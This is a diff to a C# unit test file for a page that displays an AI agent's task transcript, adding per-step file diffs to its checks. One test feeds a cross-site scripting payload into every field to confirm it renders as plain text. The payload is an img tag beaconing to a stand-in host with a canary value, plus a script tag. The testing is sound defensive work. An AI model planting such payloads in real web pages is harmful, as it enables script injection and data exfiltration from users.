@@ -17,13 +17,13 @@ public sealed class TaskPageTests
         TranscriptEntry[] transcript =
         [
             new TranscriptEntry.Chosen("openai/big", "openai/big, as you allowed."),
-            new TranscriptEntry.Step(1, "openai/big", "Look.", [new CallRecord(call, CallEnd.Done, "text", [])], new ModelSpending(new TokenCounts(1_000, 0, 100), 0.003m)),
+            new TranscriptEntry.Step(1, "openai/big", "Look.", [new CallRecord(call, CallEnd.Done, "text", ["a.py"]) { Diff = "+of this step" }], new ModelSpending(new TokenCounts(1_000, 0, 100), 0.003m)),
             new TranscriptEntry.Checked(IsSound: true, "npm test"),
         ];
 
         var page = TaskPage.Of("Make it add.", transcript, new AgentEnd(AgentEndReason.Finished, "It is done."), "Adds.", [new FileDifference("a.py", ChangeKind.Modified, "-a - b\n+a + b")]);
 
-        Assert.All(["Make it add.", "as you allowed", "Read a.py", "1,100", "$0.003", "npm test", "It is done."], text => Assert.Contains(text, page, StringComparison.Ordinal));
+        Assert.All(["Make it add.", "as you allowed", "Read a.py", "1,100", "$0.003", "npm test", "It is done.", "What step 1 changed: a.py", "of this step"], text => Assert.Contains(text, page, StringComparison.Ordinal));
     }
 
     [Fact]
@@ -38,7 +38,7 @@ public sealed class TaskPageTests
     public void Case_12_what_models_and_files_say_is_text()
     {
         const string Evil = "<img src=https://sink/?d=CANARY><script>evil()</script>";
-        var step = new TranscriptEntry.Step(1, Evil, Evil, [new CallRecord(new AgentCall("1", Evil, "{}"), CallEnd.Faulty, Evil, [])], ModelSpending.None);
+        var step = new TranscriptEntry.Step(1, Evil, Evil, [new CallRecord(new AgentCall("1", Evil, "{}"), CallEnd.Faulty, Evil, [Evil]) { Diff = Evil }], ModelSpending.None);
 
         var page = TaskPage.Of(Evil, [step, new TranscriptEntry.Checked(IsSound: false, Evil)], new AgentEnd(AgentEndReason.Stuck, Evil), Evil, [new FileDifference(Evil, ChangeKind.Added, Evil)]);
 
